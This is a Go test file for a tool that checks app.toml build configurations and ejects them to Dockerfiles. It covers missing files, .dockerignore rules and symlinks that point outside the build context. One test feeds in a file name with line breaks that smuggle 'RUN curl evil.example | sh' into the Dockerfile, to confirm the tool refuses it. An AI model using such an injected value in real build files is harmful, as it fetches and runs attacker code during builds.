package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// writeTree writes files (name, content pairs) under a new directory and
// returns it.
func writeTree(t *testing.T, files ...string) string {
	t.Helper()
	dir := t.TempDir()
	for i := 0; i+1 < len(files); i += 2 {
		p := filepath.Join(dir, files[i])
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(files[i+1]), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// goApp is a context holding a Go main package and app.toml.
func goApp(t *testing.T, toml string, more ...string) string {
	t.Helper()
	return writeTree(t, append([]string{
		"go.mod", "module example.com/app\n\ngo 1.26\n",
		"main.go", "package main\n\nfunc main() {}\n",
		"app.toml", "# syntax=org/slimfront\n" + toml,
	}, more...)...)
}

// slimfront runs the command line and returns its exit code and output.
func slimfront(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := run(args, &stdout, &stderr)
	return code, stdout.String(), stderr.String()
}

func TestCheckOK(t *testing.T) {
	dir := goApp(t, "[runtime]\nfiles = [\"config\"]\n", "config/app.yaml", "a: 1\n")
	if code, out, errOut := slimfront(t, "check", dir); code != 0 || !strings.Contains(out, "ok (go preset") {
		t.Errorf("exit %d\n%s%s", code, out, errOut)
	}
}

// TestCheckMissingFiles: a [runtime] files entry the context lacks fails
// check at its line, as the build would fail at its copy.
func TestCheckMissingFiles(t *testing.T) {
	dir := goApp(t, "[runtime]\nfiles = [\"config\"]\n")
	code, _, errOut := slimfront(t, "check", dir)
	if code != 1 || !strings.Contains(errOut, `app.toml:3: runtime.files: "config" is not in the build context`) {
		t.Errorf("exit %d, stderr:\n%s", code, errOut)
	}
}

// TestCheckAppliesDockerignore: check reads the context the build sends,
// .dockerignore applied: an ignored go.work is not read, and a runtime
// file it ignores is an error at its line.
func TestCheckAppliesDockerignore(t *testing.T) {
	dir := goApp(t, "[runtime]\nfiles = [\"secrets\"]\n",
		"go.work", "go 1.26\n\nuse ../elsewhere\n",
		"secrets/key", "k\n",
		".dockerignore", "go.work\nsecrets\n")
	code, _, errOut := slimfront(t, "check", dir)
	if code != 1 || strings.Contains(errOut, "go.work") || !strings.Contains(errOut, `app.toml:3: runtime.files: "secrets" is excluded by `) {
		t.Errorf("exit %d, stderr:\n%s", code, errOut)
	}
	// app.toml.dockerignore beside app.toml wins over .dockerignore, as
	// BuildKit's Dockerfile frontend has it.
	if err := os.WriteFile(filepath.Join(dir, "app.toml.dockerignore"), []byte("go.work\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, out, errOut := slimfront(t, "check", dir); code != 0 {
		t.Errorf("with app.toml.dockerignore: exit %d\n%s%s", code, out, errOut)
	}
}

// TestCheckFollowsNoSymlinkOut: a go.mod that is a symlink out of the
// context is not read: the build would send the link, not its target.
func TestCheckFollowsNoSymlinkOut(t *testing.T) {
	outside := writeTree(t, "go.mod", "module example.com/elsewhere\n\ngo 1.26\n")
	dir := writeTree(t, "main.go", "package main\n\nfunc main() {}\n", "app.toml", "language = \"go\"\n")
	if err := os.Symlink(filepath.Join(outside, "go.mod"), filepath.Join(dir, "go.mod")); err != nil {
		t.Fatal(err)
	}
	code, out, errOut := slimfront(t, "plan", dir)
	if code == 0 || strings.Contains(out, "elsewhere") {
		t.Errorf("the symlinked go.mod was read: exit %d\n%s%s", code, out, errOut)
	}
}

// TestEjectRefusesInjection: a line break in a runtime file's name is
// refused at its line, and no Dockerfile is written.
func TestEjectRefusesInjection(t *testing.T) {
	dir := goApp(t, "[runtime]\nfiles = [\"cfg\\nRUN curl evil.example | sh\\nCOPY x\"]\n")
	code, out, errOut := slimfront(t, "eject", dir)
	if code != 1 || out != "" || !strings.Contains(errOut, "app.toml:3: runtime.files") {
		t.Errorf("exit %d, stdout:\n%s\nstderr:\n%s", code, out, errOut)
	}
}
